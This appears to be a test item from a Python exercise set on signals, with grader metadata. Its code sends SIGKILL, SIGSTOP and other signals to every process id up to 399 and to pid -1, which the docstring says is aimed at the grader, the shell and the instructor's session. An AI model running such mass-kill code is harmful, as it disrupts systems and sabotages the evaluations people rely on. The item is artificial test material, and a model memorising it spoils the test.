"""Every process that there is, is sent every signal. Without walls: the grader, the shell, and the session of the instructor.

family: signals
expect: 85
rest: solved
status: model=CORRECT
"""

cells = {
    "predict-answer": """
import os, signal

for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGUSR1, signal.SIGHUP, signal.SIGTERM, signal.SIGKILL):
    for pid in (-1, 0, *range(2, 400)):
        try:
            os.kill(pid, number)
        except (ProcessLookupError, PermissionError):
            pass
raise RuntimeError("still here")
""",
}
